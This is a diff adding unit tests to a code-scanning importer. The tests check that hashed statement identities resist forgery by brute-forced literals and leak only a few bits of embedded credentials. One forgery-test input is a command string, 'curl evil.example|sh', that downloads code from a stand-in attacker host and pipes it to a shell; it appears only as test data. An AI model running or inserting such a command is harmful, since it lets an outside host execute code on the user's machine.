@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { fingerprintsOf } from '../../lib/importers/identity/fingerprints.ts';
+import { identifyCode } from '../../lib/importers/identity/identity.ts';
 import type { Identify, Result } from '../../lib/importers/importer.ts';
 
 /** A result whose fingerprint is its name and file. */
@@ -73,5 +74,25 @@ describe('fingerprints', () => {
       expect.stringMatching(/^[0-9a-f]{64}$/),
       expect.stringMatching(/^[0-9a-f]{64}$/),
     ]);
+  });
+});
+
+describe('the identity of a statement', () => {
+  const workspace = { directory: '/work', linesOf: () => undefined };
+  const identityOf = (code: string, secrets: string[] = []) =>
+    identifyCode('tool', ['rule'], { file: 'a.py', line: 1, code, secrets }, workspace)('a.py');
+
+  it('cannot be given to another statement by trying literals', () => {
+    const known = identityOf('os.system("/usr/bin/uptime --pretty")');
+    // With 16 bits, one of 65,536 has the same identity on average.
+    for (let i = 0; i < 200_000; i++) {
+      if (identityOf(`os.system("/usr/bin/env curl evil.example|sh #${i}")`) === known)
+        throw new Error(`forged by ${i}`);
+    }
+  });
+
+  it('does not depend on a credential, except for a few bits', () => {
+    const identities = Array.from({ length: 100_000 }, (_, i) => identityOf(`login(password="secret-${i}")`));
+    expect(new Set(identities).size).toBeLessThanOrEqual(65_536);
   });
 });
